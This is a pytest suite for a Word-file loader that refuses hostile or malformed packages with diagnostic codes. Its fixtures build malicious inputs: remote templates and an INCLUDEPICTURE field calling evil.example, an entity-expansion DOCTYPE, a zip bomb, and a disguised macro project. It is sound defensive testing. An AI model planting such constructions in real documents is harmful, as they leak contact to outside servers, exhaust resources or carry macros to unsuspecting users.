"""A Word file from somewhere is opened only when it can do no harm, and refused with part, fact and remedy."""

from __future__ import annotations

import io
import re
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest

from pmdocs.corporate.package import open_corporate
from pmdocs.corporate.page_setup import page_setup
from pmdocs.diagnostics import DefinitionError
from tests.corporate_files import english, french, german, hostile, packed, parts_of

Parts = dict[str, bytes]
TYPES = "[Content_Types].xml"
SETTINGS = "word/_rels/settings.xml.rels"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PACKAGE = "http://schemas.openxmlformats.org/package/2006/relationships"
MACROS = b"application/vnd.ms-word.document.macroEnabled.main+xml"


def refusals(path: Path) -> list[tuple[str, str]]:
    """Code and words of every reason why a file is not used; each has a place and a remedy."""
    with pytest.raises(DefinitionError) as caught:
        page_setup(open_corporate(path))
    for problem in caught.value.diagnostics:
        assert problem.remedy
        assert problem.mark is not None
        assert problem.mark.file == path
    return [(problem.code, problem.message) for problem in caught.value.diagnostics]


def attach(target: str) -> Callable[[Parts], None]:
    """Say that the file was made from a template somewhere."""
    relation = f'<Relationship Id="rId1" Type="{OFFICE}/attachedTemplate" Target="{target}" TargetMode="External"/>'

    def change(parts: Parts) -> None:
        parts[SETTINGS] = f'<Relationships xmlns="{PACKAGE}">{relation}</Relationships>'.encode()
        parts["word/settings.xml"] = parts["word/styles.xml"]

    return change


def replacing(part: str, pattern: bytes, new: bytes) -> Callable[[Parts], None]:
    """Replace what matches in a part."""

    def change(parts: Parts) -> None:
        parts[part], count = re.subn(pattern, new, parts[part])
        assert count

    return change


@pytest.mark.parametrize(
    ("name", "content", "fact"),
    [
        ("letter.docx", b"Dear sponsor", "The file is not a Word document, or is damaged."),
        ("paper.docx", b"%PDF-1.7", "The file is not a Word document, or is damaged."),
        ("nothing.docx", b"", "The file is not a Word document, or is damaged."),
        (
            "secret.docx",
            b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(2000),
            "The file is protected by a password, or was written by Word 2003 or earlier.",
        ),
    ],
)
def test_what_is_no_word_file(tmp_path: Path, name: str, content: bytes, fact: str) -> None:
    """Its name says Word, its bytes do not."""
    (tmp_path / name).write_bytes(content)
    assert refusals(tmp_path / name) == [("PM360", fact)]


def test_a_file_that_is_not_there(tmp_path: Path) -> None:
    """Missing, or a folder: told as such, not as damaged."""
    assert refusals(tmp_path / "corp.docx") == [("PM358", f"There is no file '{tmp_path / 'corp.docx'}'.")]
    assert refusals(tmp_path) == [("PM358", f"'{tmp_path}' is a folder.")]


def test_an_archive_of_something_else(tmp_path: Path) -> None:
    """A zip with a text in it, and a workbook under a Word file's name."""
    path = tmp_path / "holiday.docx"
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("beach.txt", "sand")
    assert refusals(path) == [("PM360", "The package holds no Word document.")]
    book = hostile(tmp_path, replacing(TYPES, rb"wordprocessingml\.document\.main", b"spreadsheetml.sheet.main"))
    assert refusals(book) == [("PM360", "The package holds no Word document.")]


def test_macros_are_refused_under_any_name(tmp_path: Path) -> None:
    """A .docm that was renamed: its types give it away, and so does the project of its macros."""

    def change(parts: Parts) -> None:
        parts["word/vbaProject.bin"] = b"Sub AutoOpen()"
        old = b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
        assert old in parts[TYPES]
        parts[TYPES] = parts[TYPES].replace(old, MACROS)

    assert refusals(hostile(tmp_path, change)) == [
        ("PM361", "In the part 'word/document.xml': The file holds macros."),
        ("PM361", "In the part 'word/vbaProject.bin': The file holds a program."),
    ]


@pytest.mark.parametrize(
    "target", ["http://evil.example/corp.dotm", "file://server/share/corp.dotx", r"\\server\corp.dotx"]
)
def test_a_template_elsewhere_is_refused(tmp_path: Path, target: str) -> None:
    """Every document made from the file would fetch it, and tell its server so."""
    ((code, message),) = refusals(hostile(tmp_path, attach(target)))
    assert code == "PM362"
    assert message == f"In the part '{SETTINGS}': The file fetches its template from '{target}'."


def test_the_template_on_the_authors_own_disk_is_forgotten(tmp_path: Path) -> None:
    """Word writes it into nearly every file; it is of no use elsewhere, and nothing fetches it."""
    path = hostile(tmp_path, attach(r"file:///C:\Users\ada\AppData\Templates\Corp.dotx"))
    assert b"Corp.dotx" not in parts_of(open_corporate(path).data)[SETTINGS]


def test_a_document_type_is_refused(tmp_path: Path) -> None:
    """The way to entities, which read other files or blow up; nothing behind it is read."""
    bomb = b'\\1<!DOCTYPE x [<!ENTITY a "b"><!ENTITY c "&a;&a;">]>'
    path = hostile(tmp_path, replacing("word/styles.xml", rb"(<\?xml[^>]*\?>)", bomb))
    assert refusals(path) == [
        ("PM363", "In the part 'word/styles.xml': It declares a document type (DTD), which Word never writes.")
    ]


def test_a_bomb_is_refused_before_it_is_unpacked(tmp_path: Path) -> None:
    """120 MB of spaces pack to 120 kB."""
    path = hostile(tmp_path, replacing("word/styles.xml", b"</w:styles>", b" " * 120_000_000 + b"</w:styles>"))
    ((code, message),) = refusals(path)
    assert code == "PM364"
    assert re.fullmatch(
        r"In the part 'word/styles\.xml': It unpacks from 1\d\d,\d{3} to 120,0\d\d,\d{3} bytes\.", message
    )


def test_a_field_that_acts_is_refused(tmp_path: Path) -> None:
    """In the header, where nobody looks."""
    field = b'<w:fldSimple w:instr=" INCLUDEPICTURE &quot;http://evil.example/x.png&quot; "/></w:body>'
    ((code, message),) = refusals(hostile(tmp_path, replacing("word/document.xml", b"</w:body>", field)))
    assert code == "PM365"
    assert "INCLUDEPICTURE" in message


def test_a_broken_part_is_named(tmp_path: Path) -> None:
    """Cut in half: said before anything is built, by every command alike."""

    def cut(parts: Parts) -> None:
        parts["word/styles.xml"] = parts["word/styles.xml"][:-100]

    assert refusals(hostile(tmp_path, cut)) == [("PM360", "In the part 'word/styles.xml': It is damaged.")]


def test_a_missing_part_is_named(tmp_path: Path) -> None:
    """With the part that refers to it."""
    assert refusals(hostile(tmp_path, lambda parts: parts.__delitem__("word/styles.xml"))) == [
        ("PM360", "The part 'word/styles.xml', which word/document.xml refers to, is missing.")
    ]


@pytest.mark.parametrize(
    ("page", "fact"),
    [
        (b'<w:pgSz w:w="0" w:h="0"/>', "Its pages leave 0 × 0 mm for text; 90 × 90 mm is the least."),
        (b'<w:pgSz w:w="99999999" w:h="15840"/>', "A sheet is larger than 558 mm."),
        (
            b'<w:pgSz w:w="11906" w:h="16838"/><w:pgMar w:top="567" w:right="5000" w:bottom="567" w:left="4000"/>',
            "Its pages leave 51 × 277 mm for text; 90 × 90 mm is the least.",
        ),
    ],
)
def test_pages_that_no_table_fits_on(tmp_path: Path, page: bytes, fact: str) -> None:
    """They would lead to columns of no width, which Word calls damaged."""
    pattern = rb"<w:pgSz [^>]*/>(<w:pgMar [^>]*/>)?"
    assert refusals(hostile(tmp_path, replacing("word/document.xml", pattern, page))) == [("PM360", fact)]


@pytest.mark.parametrize("make", [english, german, french])
def test_files_as_organisations_have_them_are_opened(tmp_path: Path, make: Callable[[Path], Path]) -> None:
    """With logos, locks, notes and counted headings; a template (.dotx) becomes a document."""
    file = open_corporate(make(tmp_path))
    assert b"template.main+xml" not in parts_of(file.data)[TYPES]
    assert page_setup(file).margins.top >= 25


def test_a_template_with_macros_stays_refused(tmp_path: Path) -> None:
    """Turning templates into documents opens no way for them."""
    parts = parts_of(french(tmp_path).read_bytes())
    parts["word/vbaProject.bin"] = b"x"
    parts[TYPES] = parts[TYPES].replace(
        b"application/vnd.openxmlformats-officedocument.wordprocessingml.template.main+xml",
        b"application/vnd.ms-word.template.macroEnabledTemplate.main+xml",
    )
    path = tmp_path / "macros.dotm"
    path.write_bytes(packed(parts))
    assert {code for code, _ in refusals(path)} == {"PM361"}


def test_nothing_is_fetched_while_a_file_is_read(tmp_path: Path) -> None:
    """A stylesheet named at the head of a part, and an entity of its own, are not looked at."""

    def change(parts: Parts) -> None:
        head = b'<?xml-stylesheet href="http://evil.example/x.xsl" type="text/xsl"?>'
        parts["word/styles.xml"] = re.sub(rb"(<\?xml[^>]*\?>)", rb"\1" + head, parts["word/styles.xml"])

    assert open_corporate(hostile(tmp_path, change)).related("styles") == "word/styles.xml"


def test_two_parts_of_one_name_are_refused(tmp_path: Path) -> None:
    """Readers differ in which of the two they take."""
    target = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(english(tmp_path).read_bytes())) as source, zipfile.ZipFile(target, "w") as archive:
        for name in source.namelist():
            archive.writestr(name, source.read(name))
        archive.writestr("word/Document.xml", source.read("word/document.xml"))
    path = tmp_path / "twice.docx"
    path.write_bytes(target.getvalue())
    assert refusals(path) == [("PM363", "In the part 'word/Document.xml': The package holds two parts of this name.")]
